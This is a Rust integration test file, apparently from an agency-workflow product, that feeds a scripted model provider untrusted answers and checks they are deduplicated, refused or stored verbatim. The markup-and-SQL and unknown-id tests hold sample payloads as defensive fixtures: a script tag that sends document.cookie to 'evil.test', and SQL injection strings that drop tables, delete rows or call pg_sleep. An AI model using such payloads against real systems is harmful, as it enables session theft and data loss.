//! Attacks on /functions/v1 and on organization creation (security issue #14):
//! - the model's answer is untrusted input: duplicates, empty and blank answers, maximal and
//!   over-long strings, unknown or foreign ids, extra fields, NUL characters, markup and SQL,
//!   out-of-range numbers and non-finite vectors are deduplicated or refused with 502
//!   `invalid_model_output` (nothing written), never a 500; markup and SQL are stored verbatim;
//! - AI budgets are reserved atomically, so concurrent calls cannot overspend them;
//! - one user cannot create unlimited organizations;
//! - the embedding worker is metered per organization and stops at its cap with a paid provider.
use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use agencyflow_functions::embeddings::{backfill_with, WorkerConfig};
use agencyflow_functions::futures::future::join_all;
use agencyflow_functions::provider::{self, DynProvider};
use agencyflow_testkit::agencyflow_db::tokio_postgres::Client;
use agencyflow_testkit::{TestApp, TestDb};
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use axum::Router;
use serde_json::{json, Value};
use uuid::Uuid;

use crate::functions::{app_with, count, invoke, openai_flags, world, World};

// ---------------------------------------------------------------------------------------
// A scripted OpenAI-compatible provider: each function's answer is set by the test.
// ---------------------------------------------------------------------------------------

#[derive(Default)]
struct Script {
    /// The raw text answered for a schema name (`recommend_systems`, ...); a valid answer
    /// when none is set.
    answers: Mutex<HashMap<String, String>>,
    /// Milliseconds every call waits before answering (widens race windows).
    delay_ms: AtomicU64,
    chat_calls: AtomicUsize,
    /// Answer every call with HTTP 500.
    fail: AtomicBool,
    /// Every text sent to /embeddings.
    embedded: Mutex<Vec<String>>,
    /// Answer embeddings with this number in every slot.
    embed_value: Mutex<Option<f64>>,
    /// Chat usage reported: (prompt_tokens, completion_tokens).
    usage: Mutex<(u64, u64)>,
}

impl Script {
    fn answer(&self, schema_name: &str, v: Value) {
        self.answer_raw(schema_name, v.to_string());
    }
    fn answer_raw(&self, schema_name: &str, text: String) {
        self.answers
            .lock()
            .unwrap()
            .insert(schema_name.to_string(), text);
    }
    fn calls(&self) -> usize {
        self.chat_calls.load(Ordering::SeqCst)
    }
    fn embedded_chars(&self) -> usize {
        self.embedded
            .lock()
            .unwrap()
            .iter()
            .map(|t| t.chars().count())
            .sum()
    }
}

/// An answer that fits each function's schema.
fn valid(schema_name: &str) -> Value {
    match schema_name {
        "analyze_business" => {
            json!({"summary": "A dental clinic chain", "industry": "healthcare", "business_model": "services",
            "strengths": ["loyal patients"], "challenges": ["manual billing"], "opportunities": ["invoice automation"]})
        }
        "generate_diagnostics" => json!({"summary": "manual back office", "maturity_score": 35,
            "findings": [{"area": "billing", "finding": "invoices typed by hand", "severity": "high", "recommendation": "automate invoicing"}]}),
        "recommend_systems" => json!({"summary": "start with leads",
            "recommendations": [{"system_id": "lead-generation", "why_it_matters": "more leads", "priority": "high"}]}),
        "assess_readiness" => {
            json!({"readiness_score": 72, "level": "ready", "summary": "ready for a pilot", "strengths": ["clean data"], "gaps": ["no owner"]})
        }
        "generate_roadmap" => json!({"total_duration": "3 months",
            "roi_projection": {"summary": "pays back in 5 months", "estimated_annual_value_usd": 48000, "payback_months": 5},
            "phases": [{"title": "Foundations", "description": "data and access", "outcomes": ["CRM cleaned"]}]}),
        "generate_tasks" => {
            json!({"tasks": [{"title": "Export CRM", "description": "csv export", "owner": "client", "priority": "high", "effort": "s", "tags": ["data"]}]})
        }
        "crm_intelligence" => {
            json!({"health_score": 81, "summary": "engaged client", "next_best_action": "propose phase 2", "risks": [], "sentiment_trend": "improving"})
        }
        "project_monitor" => {
            json!({"status": "at_risk", "reasons": ["two tasks are overdue"], "recommendations": ["re-plan phase 1"]})
        }
        "assistant" => json!({"answer": "No sources.", "citations": []}),
        other => panic!("no answer for {other}"),
    }
}

async fn script_chat(State(m): State<Arc<Script>>, body: Bytes) -> Response {
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    m.chat_calls.fetch_add(1, Ordering::SeqCst);
    let delay = m.delay_ms.load(Ordering::SeqCst);
    if delay > 0 {
        tokio::time::sleep(Duration::from_millis(delay)).await;
    }
    if m.fail.load(Ordering::SeqCst) {
        return (
            StatusCode::INTERNAL_SERVER_ERROR,
            "{\"error\":{\"message\":\"boom\"}}",
        )
            .into_response();
    }
    let name = body["response_format"]["json_schema"]["name"]
        .as_str()
        .unwrap_or("")
        .to_string();
    let content = m
        .answers
        .lock()
        .unwrap()
        .get(&name)
        .cloned()
        .unwrap_or_else(|| valid(&name).to_string());
    let (p, c) = *m.usage.lock().unwrap();
    axum::Json(json!({"id": "chatcmpl-1", "object": "chat.completion", "model": body["model"],
        "choices": [{"index": 0, "message": {"role": "assistant", "content": content, "refusal": null}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": p, "completion_tokens": c, "total_tokens": p + c}}))
    .into_response()
}

async fn script_embed(State(m): State<Arc<Script>>, body: Bytes) -> Response {
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let delay = m.delay_ms.load(Ordering::SeqCst);
    if delay > 0 {
        tokio::time::sleep(Duration::from_millis(delay)).await;
    }
    let dims = body["dimensions"].as_u64().unwrap_or(768) as usize;
    let inputs: Vec<String> = body["input"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x.as_str().unwrap().to_string())
        .collect();
    m.embedded.lock().unwrap().extend(inputs.iter().cloned());
    let value = *m.embed_value.lock().unwrap();
    let data: Vec<Value> = inputs
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let embedding = match value {
                Some(v) => json!(vec![v; dims]),
                None => json!(provider::hash::embed_text(t, dims)),
            };
            json!({"object": "embedding", "index": i, "embedding": embedding})
        })
        .collect();
    let tokens: usize = inputs.iter().map(|t| t.chars().count() / 4 + 1).sum();
    axum::Json(
        json!({"object": "list", "data": data, "model": body["model"],
        "usage": {"prompt_tokens": tokens, "total_tokens": tokens}}),
    )
    .into_response()
}

async fn script_other(Path(rest): Path<String>) -> Response {
    (StatusCode::NOT_FOUND, format!("no route {rest}")).into_response()
}

async fn spawn_script() -> (String, Arc<Script>) {
    let m = Arc::new(Script::default());
    *m.usage.lock().unwrap() = (11, 7);
    let app = Router::new()
        .route("/v1/chat/completions", post(script_chat))
        .route("/v1/embeddings", post(script_embed))
        .route("/v1/{*rest}", post(script_other))
        .with_state(m.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}"), m)
}

fn flags(mock: &str, extra: &[&str]) -> Vec<String> {
    let mut f = openai_flags(mock);
    f.extend(extra.iter().map(|s| s.to_string()));
    f
}

/// OpenAI-compatible chat and (paid) embeddings from the scripted provider.
fn paid_embedding_flags(mock: &str, extra: &[&str]) -> Vec<String> {
    let mut f: Vec<String> = openai_flags(mock)
        .into_iter()
        .map(|s| if s == "hash" { "openai".into() } else { s })
        .collect();
    f.extend(["--ai-embed-model".to_string(), "emb-test".to_string()]);
    f.extend(extra.iter().map(|s| s.to_string()));
    f
}

fn paid_embedder(mock: &str) -> DynProvider {
    Arc::new(provider::OpenAi::new(
        &format!("{mock}/v1"),
        Some("sk-test".into()),
        "emb-test".into(),
        provider::RetryPolicy {
            timeout: Duration::from_secs(10),
            max_retries: 0,
            base_delay: Duration::from_millis(1),
            max_delay: Duration::from_millis(1),
        },
    ))
}

/// Budgets are per UTC hour (runs) and day: a test that counts on one period waits out the
/// last seconds before a boundary rather than straddle it.
pub(crate) async fn avoid_period_boundary() {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let left = 3600 - now % 3600;
    if left < 15 {
        tokio::time::sleep(Duration::from_secs(left + 1)).await;
    }
}

fn assert_refused(s: StatusCode, v: &Value, what: &str) {
    assert_eq!(
        (s.as_u16(), v["code"].as_str()),
        (502, Some("invalid_model_output")),
        "{what}: {v}"
    );
    assert!(v["error"].is_string(), "{what}: {v}");
}

/// A roadmap phase of the project's active snapshot (and the snapshot), made directly.
async fn phase(db: &Client, w: &World) -> Uuid {
    db.execute(
        "select create_context_snapshot($1, 'ctx', '{}')",
        &[&w.project],
    )
    .await
    .unwrap();
    let snapshot: Uuid = db
        .query_one(
            "select id from context_snapshots where project_id = $1 and is_active",
            &[&w.project],
        )
        .await
        .unwrap()
        .get(0);
    let roadmap: Uuid = db
        .query_one(
            "insert into roadmaps (org_id, snapshot_id) values ($1, $2) returning id",
            &[&w.org, &snapshot],
        )
        .await
        .unwrap()
        .get(0);
    db.query_one(
        "insert into roadmap_phases (org_id, roadmap_id, title, order_index) values ($1, $2, 'Pilot', 0) returning id",
        &[&w.org, &roadmap],
    )
    .await
    .unwrap()
    .get(0)
}

async fn health(db: &Client, w: &World) -> i32 {
    db.query_one(
        "select health_score from clients where id = $1",
        &[&w.client],
    )
    .await
    .unwrap()
    .get(0)
}

async fn usage_row(db: &Client, org: Uuid, meter: &str) -> (i64, i64, i64) {
    db.query_opt(
        "select used, reserved, tokens from private.ai_usage where org_id = $1 and meter = $2
         order by period_start desc limit 1",
        &[&org, &meter],
    )
    .await
    .unwrap()
    .map(|r| (r.get(0), r.get(1), r.get(2)))
    .unwrap_or((0, 0, 0))
}

// ---------------------------------------------------------------------------------------
// 1. The model's answer is untrusted input
// ---------------------------------------------------------------------------------------

#[tokio::test]
async fn functions_attack_duplicate_systems_in_model_output_is_deduplicated() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    // The same system twice: before the fix a 500 ("ON CONFLICT DO UPDATE command cannot
    // affect row a second time") from the project_systems upsert.
    m.answer(
        "recommend_systems",
        json!({"summary": "leads first", "recommendations": [
            {"system_id": "lead-generation", "why_it_matters": "first reason", "priority": "high"},
            {"system_id": "lead-generation", "why_it_matters": "repeated", "priority": "low"},
            {"system_id": "customer-support", "why_it_matters": "fewer tickets", "priority": "medium"}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "recommend-systems",
        Some(&tok),
        json!({"session_id": w.session}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        v["result"]["recommendations"].as_array().unwrap().len(),
        2,
        "{v}"
    );
    assert_eq!(v["project_systems"].as_array().unwrap().len(), 2, "{v}");
    let rows: Vec<(String, String)> = db
        .query(
            "select system_id, why_it_matters from project_systems where project_id = $1 order by system_id",
            &[&w.project],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1)))
        .collect();
    assert_eq!(
        rows,
        [
            ("customer-support".to_string(), "fewer tickets".to_string()),
            ("lead-generation".to_string(), "first reason".to_string())
        ]
    );
    let stored: i64 = db
        .query_one(
            "select jsonb_array_length(ai_results -> 'recommendations')::bigint from wizard_answers
             where session_id = $1 and screen_id = 'step-3'",
            &[&w.session],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(stored, 2);
    // Asked again (another prompt, so no cache), the duplicate padded with spaces: still one
    // row per system, updated by the first of its recommendations.
    m.answer(
        "recommend_systems",
        json!({"summary": "leads first", "recommendations": [
            {"system_id": " lead-generation ", "why_it_matters": "padded first", "priority": "high"},
            {"system_id": "lead-generation", "why_it_matters": "repeated", "priority": "low"}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "recommend-systems",
        Some(&tok),
        json!({"session_id": w.session, "data": {"again": true}}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["project_systems"].as_array().unwrap().len(), 1, "{v}");
    let why: Vec<String> = db
        .query(
            "select why_it_matters from project_systems where project_id = $1 order by system_id",
            &[&w.project],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(why, ["fewer tickets", "padded first"]);
}

#[tokio::test]
async fn functions_attack_unknown_or_injected_system_ids_in_model_output_are_refused() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    for (i, bad) in [
        "made-up-system",
        "lead-generation'); delete from public.systems; --",
        "",
        "LEAD-GENERATION",
    ]
    .into_iter()
    .enumerate()
    {
        m.answer(
            "recommend_systems",
            json!({"summary": "s", "recommendations": [
                {"system_id": "lead-generation", "why_it_matters": "ok", "priority": "high"},
                {"system_id": bad, "why_it_matters": "invented", "priority": "high"}]}),
        );
        let (s, _, v) = invoke(
            &app,
            "recommend-systems",
            Some(&tok),
            json!({"session_id": w.session, "data": {"try": i}}),
        )
        .await;
        assert_refused(s, &v, bad);
    }
    // Nothing written; the catalogue intact.
    assert_eq!(count(&db, "select 1 from wizard_answers").await, 0);
    assert_eq!(count(&db, "select 1 from project_systems").await, 0);
    assert_eq!(count(&db, "select 1 from systems").await, 8);
    assert_eq!(
        count(&db, "select 1 from ai_cache").await,
        0,
        "refused answers are not cached"
    );
}

#[tokio::test]
async fn functions_attack_empty_and_blank_model_output_is_refused_and_writes_nothing() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    // Step 1 answered (valid) so that step 2 may run.
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"name": "Acme"}}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let phase_id = phase(&db, &w).await;
    let snapshots = count(&db, "select 1 from context_snapshots").await;

    let cases: Vec<(&str, &str, Value, Value)> = vec![
        (
            "analyze-business",
            "analyze_business",
            json!({"summary": "s", "industry": "i", "business_model": "b", "strengths": [], "challenges": [], "opportunities": []}),
            json!({"session_id": w.session, "data": {"name": "Acme", "n": 1}}),
        ),
        (
            "analyze-business",
            "analyze_business",
            json!({"summary": "s", "industry": "i", "business_model": "b", "strengths": [], "challenges": [], "opportunities": ["", "   "]}),
            json!({"session_id": w.session, "data": {"name": "Acme", "n": 2}}),
        ),
        (
            "analyze-business",
            "analyze_business",
            json!({"summary": " \n\t ", "industry": "i", "business_model": "b", "strengths": [], "challenges": [], "opportunities": ["x"]}),
            json!({"session_id": w.session, "data": {"name": "Acme", "n": 3}}),
        ),
        (
            "generate-diagnostics",
            "generate_diagnostics",
            json!({"summary": "s", "maturity_score": 10, "findings": []}),
            json!({"session_id": w.session}),
        ),
        (
            "recommend-systems",
            "recommend_systems",
            json!({"summary": "s", "recommendations": []}),
            json!({"session_id": w.session}),
        ),
        (
            "assess-readiness",
            "assess_readiness",
            json!({"readiness_score": 50, "level": "ready", "summary": "", "strengths": [], "gaps": []}),
            json!({"session_id": w.session}),
        ),
        (
            "generate-roadmap",
            "generate_roadmap",
            json!({"total_duration": "1 month", "roi_projection": {"summary": "", "estimated_annual_value_usd": 1, "payback_months": 1}, "phases": []}),
            json!({"project_id": w.project}),
        ),
        (
            "generate-tasks",
            "generate_tasks",
            json!({"tasks": []}),
            json!({"phase_id": phase_id}),
        ),
        (
            "generate-tasks",
            "generate_tasks",
            json!({"tasks": [{"title": "  ", "description": "", "owner": "client", "priority": "high", "effort": "s", "tags": []}]}),
            json!({"phase_id": phase_id, "n": 2}),
        ),
        (
            "crm-intelligence",
            "crm_intelligence",
            json!({"health_score": 10, "summary": "   ", "next_best_action": "x", "risks": [], "sentiment_trend": "stable"}),
            json!({"client_id": w.client}),
        ),
        (
            "project-monitor",
            "project_monitor",
            json!({"status": "delayed", "reasons": [], "recommendations": []}),
            json!({"project_id": w.project}),
        ),
        (
            "assistant",
            "assistant",
            json!({"answer": "", "citations": []}),
            json!({"question": "anything?"}),
        ),
    ];
    // generate-roadmap needs a snapshot without a roadmap: a fresh one.
    for (name, schema, answer, body) in cases {
        if name == "generate-roadmap" {
            db.execute(
                "select create_context_snapshot($1, 'ctx', '{}')",
                &[&w.project],
            )
            .await
            .unwrap();
        }
        m.answer(schema, answer.clone());
        let (s, _, v) = invoke(&app, name, Some(&tok), body).await;
        assert_refused(s, &v, &format!("{name} {answer}"));
    }
    // Only step 1 and the fixtures exist.
    assert_eq!(count(&db, "select 1 from wizard_answers").await, 1);
    assert_eq!(count(&db, "select 1 from project_systems").await, 0);
    assert_eq!(
        count(&db, "select 1 from context_snapshots").await,
        snapshots + 1
    );
    assert_eq!(count(&db, "select 1 from roadmaps").await, 1);
    assert_eq!(count(&db, "select 1 from roadmap_phases").await, 1);
    assert_eq!(count(&db, "select 1 from tasks").await, 0);
    assert_eq!(
        count(
            &db,
            "select 1 from activities where activity_type = 'system'"
        )
        .await,
        0
    );
    assert_eq!(health(&db, &w).await, 50);
}

#[tokio::test]
async fn functions_attack_over_long_model_strings_are_refused_and_maximal_ones_stored() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    let analysis = |summary: String, strengths: Vec<String>| {
        json!({"summary": summary, "industry": "healthcare", "business_model": "services",
               "strengths": strengths, "challenges": [], "opportunities": ["automation"]})
    };
    // One character too many (counted in characters, not bytes), a megabyte, 21 list items.
    for (i, answer) in [
        analysis("é".repeat(4001), vec![]),
        analysis("x".repeat(1 << 20), vec![]),
        analysis(
            "ok".into(),
            (0..21).map(|i| format!("strength {i}")).collect(),
        ),
        analysis("ok".into(), vec!["y".repeat(1001)]),
    ]
    .into_iter()
    .enumerate()
    {
        m.answer("analyze_business", answer);
        let (s, _, v) = invoke(
            &app,
            "analyze-business",
            Some(&tok),
            json!({"session_id": w.session, "data": {"n": i}}),
        )
        .await;
        assert_refused(s, &v, &format!("case {i}"));
    }
    assert_eq!(count(&db, "select 1 from wizard_answers").await, 0);
    // Exactly at the limits: stored whole.
    m.answer(
        "analyze_business",
        analysis(
            "é".repeat(4000),
            (0..20).map(|i| format!("{i}{}", "z".repeat(990))).collect(),
        ),
    );
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"n": "max"}}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let r = db
        .query_one(
            "select char_length(ai_results ->> 'summary'), jsonb_array_length(ai_results -> 'strengths')
             from wizard_answers where session_id = $1",
            &[&w.session],
        )
        .await
        .unwrap();
    assert_eq!((r.get::<_, i32>(0), r.get::<_, i32>(1)), (4000, 20));

    // A task title: 201 characters refused, 200 stored.
    let phase_id = phase(&db, &w).await;
    let task = |title: String| json!({"tasks": [{"title": title, "description": "d", "owner": "agency", "priority": "low", "effort": "m", "tags": []}]});
    m.answer("generate_tasks", task("t".repeat(201)));
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id}),
    )
    .await;
    assert_refused(s, &v, "201-character title");
    assert_eq!(count(&db, "select 1 from tasks").await, 0);
    m.answer("generate_tasks", task("t".repeat(200)));
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id, "again": 1}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        count(&db, "select 1 from tasks where char_length(title) = 200").await,
        1
    );
    // Risks of a client review: too long an item refused, nothing updated.
    m.answer(
        "crm_intelligence",
        json!({"health_score": 10, "summary": "s", "next_best_action": "a", "risks": ["r".repeat(1001)], "sentiment_trend": "declining"}),
    );
    let (s, _, v) = invoke(
        &app,
        "crm-intelligence",
        Some(&tok),
        json!({"client_id": w.client}),
    )
    .await;
    assert_refused(s, &v, "long risk");
    assert_eq!(health(&db, &w).await, 50);
}

#[tokio::test]
async fn functions_attack_markup_and_sql_in_model_output_are_stored_verbatim_never_executed() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    let script = "<script>fetch('https://evil.test/?c='+document.cookie)</script>";
    let sql = "x'); drop table public.wizard_answers; --";
    let bobby = "Robert'); DROP TABLE students;--";
    let img = "<img src=x onerror=alert(1)>";
    m.answer(
        "analyze_business",
        json!({"summary": script, "industry": sql, "business_model": "$1 $$ \\\\ %s",
               "strengths": [bobby, img], "challenges": ["{\"role\":\"service_role\"}"], "opportunities": ["'; select pg_sleep(10); --"]}),
    );
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"name": "Acme"}}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["result"]["summary"], script);
    let stored: Value = db
        .query_one(
            "select ai_results from wizard_answers where session_id = $1",
            &[&w.session],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(stored["summary"], script);
    assert_eq!(stored["industry"], sql);
    assert_eq!(stored["business_model"], "$1 $$ \\\\ %s");
    assert_eq!(stored["strengths"], json!([bobby, img]));
    assert_eq!(
        stored["opportunities"],
        json!(["'; select pg_sleep(10); --"])
    );

    let phase_id = phase(&db, &w).await;
    let del = "'; delete from public.tasks; --";
    m.answer(
        "generate_tasks",
        json!({"tasks": [
            {"title": del, "description": script, "owner": "agency", "priority": "high", "effort": "s", "tags": ["{\"a\":1}", "$1", "'--"]},
            {"title": "<b>bold</b>", "description": "", "owner": "client", "priority": "low", "effort": "xl", "tags": []}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let r = db
        .query_one(
            "select description, tags from tasks where title = $1",
            &[&del],
        )
        .await
        .unwrap();
    assert_eq!(r.get::<_, String>(0), script);
    assert_eq!(r.get::<_, Vec<String>>(1), ["{\"a\":1}", "$1", "'--"]);
    assert_eq!(count(&db, "select 1 from tasks").await, 2);

    let upd = "1); update public.clients set health_score = 0; --";
    m.answer(
        "crm_intelligence",
        json!({"health_score": 77, "summary": upd, "next_best_action": script, "risks": [sql], "sentiment_trend": "stable"}),
    );
    let (s, _, v) = invoke(
        &app,
        "crm-intelligence",
        Some(&tok),
        json!({"client_id": w.client}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(health(&db, &w).await, 77);
    let d: String = db
        .query_one(
            "select description from activities where activity_type = 'system'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(d, upd);
    assert_eq!(count(&db, "select 1 from wizard_answers").await, 1);
}

#[tokio::test]
async fn functions_attack_nul_characters_in_model_output_are_refused_not_500() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    // PostgreSQL stores no NUL character, in text or jsonb: before the fix each of these
    // failed at the write with a 500.
    m.answer(
        "analyze_business",
        json!({"summary": "evil\u{0}", "industry": "i", "business_model": "b", "strengths": [], "challenges": [], "opportunities": ["x"]}),
    );
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"name": "Acme"}}),
    )
    .await;
    assert_refused(s, &v, "NUL in the summary");
    let phase_id = phase(&db, &w).await;
    m.answer(
        "generate_tasks",
        json!({"tasks": [{"title": "a\u{0}b", "description": "", "owner": "client", "priority": "low", "effort": "s", "tags": []}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id}),
    )
    .await;
    assert_refused(s, &v, "NUL in a task title");
    m.answer(
        "crm_intelligence",
        json!({"health_score": 5, "summary": "s", "next_best_action": "a", "risks": ["\u{0}"], "sentiment_trend": "stable"}),
    );
    let (s, _, v) = invoke(
        &app,
        "crm-intelligence",
        Some(&tok),
        json!({"client_id": w.client}),
    )
    .await;
    assert_refused(s, &v, "NUL in a risk");
    assert_eq!(count(&db, "select 1 from wizard_answers").await, 0);
    assert_eq!(count(&db, "select 1 from tasks").await, 0);
    assert_eq!(health(&db, &w).await, 50);
    // The same in a request body is the caller's mistake: 400, not 500.
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"name": "a\u{0}b"}}),
    )
    .await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str(), v["field"].as_str()),
        (400, Some("invalid_input"), Some("body")),
        "{v}"
    );
}

#[tokio::test]
async fn functions_attack_duplicate_tasks_phases_items_and_citations_are_deduplicated() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);

    // List items repeated (case and spacing aside) are kept once.
    m.answer(
        "analyze_business",
        json!({"summary": "s", "industry": "i", "business_model": "b", "strengths": ["Fast", "fast", " FAST ", "cheap"],
               "challenges": ["x", "x"], "opportunities": ["a", "A", "b"]}),
    );
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"name": "Acme"}}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["result"]["strengths"], json!(["Fast", "cheap"]));
    assert_eq!(v["result"]["challenges"], json!(["x"]));
    assert_eq!(v["result"]["opportunities"], json!(["a", "b"]));

    // Tasks: the same title twice is one task; a task the phase has is not added again.
    let phase_id = phase(&db, &w).await;
    db.execute(
        "insert into tasks (org_id, phase_id, title) values ($1, $2, 'Existing task')",
        &[&w.org, &phase_id],
    )
    .await
    .unwrap();
    let task = |title: &str| json!({"title": title, "description": "", "owner": "agency", "priority": "medium", "effort": "m", "tags": ["a", "A"]});
    m.answer(
        "generate_tasks",
        json!({"tasks": [task("Set up CRM"), task("set up  crm"), task(" existing TASK "), task("Train staff")]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let titles: Vec<String> = db
        .query("select title from tasks order by title", &[])
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(titles, ["Existing task", "Set up CRM", "Train staff"]);
    assert_eq!(
        count(&db, "select 1 from tasks where tags = '{a}'").await,
        2
    );
    // An answer of tasks the phase already has: nothing new, refused.
    m.answer(
        "generate_tasks",
        json!({"tasks": [task("Train staff"), task("existing task")]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id, "again": true}),
    )
    .await;
    assert_refused(s, &v, "only existing tasks");
    assert_eq!(count(&db, "select 1 from tasks").await, 3);

    // Phases of the same title are one phase.
    db.execute(
        "select create_context_snapshot($1, 'ctx2', '{}')",
        &[&w.project],
    )
    .await
    .unwrap();
    let ph = |title: &str| json!({"title": title, "description": "", "outcomes": ["o", "O"]});
    m.answer(
        "generate_roadmap",
        json!({"total_duration": "2 months", "roi_projection": {"summary": "", "estimated_annual_value_usd": 0, "payback_months": 0},
               "phases": [ph("Discovery"), ph("discovery"), ph("Build")]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-roadmap",
        Some(&tok),
        json!({"project_id": w.project}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let phases: Vec<(String, i32, Value)> = db
        .query(
            "select p.title, p.order_index, p.outcomes from roadmap_phases p join roadmaps r on r.id = p.roadmap_id
             join context_snapshots c on c.id = r.snapshot_id and c.is_active order by p.order_index",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1), r.get(2)))
        .collect();
    assert_eq!(
        phases,
        [
            ("Discovery".to_string(), 0, json!(["o"])),
            ("Build".to_string(), 1, json!(["o"]))
        ]
    );

    // A source cited twice is cited once; an id the search did not return is dropped, even
    // when it is a real document (of another organization).
    let doc: Uuid = db
        .query_one(
            "insert into documents (org_id, project_id, name, content_text) values ($1, $2, 'Handbook', 'invoice automation handbook') returning id",
            &[&w.org, &w.project],
        )
        .await
        .unwrap()
        .get(0);
    let other_org: Uuid = db
        .query_one(
            "select org_id from team_members where user_id = $1",
            &[&w.outsider],
        )
        .await
        .unwrap()
        .get(0);
    let foreign = insert_doc(
        &db,
        other_org,
        "Secret",
        "invoice automation handbook, secret edition",
    )
    .await;
    let hash: DynProvider = Arc::new(provider::HashEmbedder::new("hash-v1".into()));
    agencyflow_functions::backfill(&t.db(), hash, |_, _| {})
        .await
        .unwrap();
    m.answer(
        "assistant",
        json!({"answer": "See the handbook.", "citations": [
            {"id": doc.to_string(), "type": "document"},
            {"id": format!(" {doc} "), "type": "document"},
            {"id": doc.to_string(), "type": "document"},
            {"id": foreign.to_string(), "type": "document"},
            {"id": Uuid::new_v4().to_string(), "type": "interaction"}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "assistant",
        Some(&tok),
        json!({"question": "What does the handbook say about invoice automation?"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let cited: Vec<&str> = v["citations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(cited, [doc.to_string()], "{v}");
}

#[tokio::test]
async fn functions_attack_model_cannot_smuggle_extra_fields_or_another_orgs_ids() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    let other_org: Uuid = db
        .query_one(
            "select org_id from team_members where user_id = $1",
            &[&w.outsider],
        )
        .await
        .unwrap()
        .get(0);
    let phase_id = phase(&db, &w).await;
